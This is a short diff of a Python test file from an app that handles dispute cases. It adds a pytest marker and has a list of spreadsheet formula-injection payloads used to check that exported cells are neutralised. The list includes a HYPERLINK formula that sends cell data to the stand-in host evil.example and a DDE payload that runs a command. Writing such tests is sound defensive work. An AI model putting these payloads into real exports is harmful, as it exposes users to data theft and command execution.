@@ -12,6 +12,8 @@ from app.models import Address, DisputeCase
 from app.services.time_limits.timers import fire_due_timers
 from tests import factories as f
 
+pytestmark = pytest.mark.sqlite  # cells neutralised in Python; the exports' queries: test_dashboard_pages
+
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1"]
 
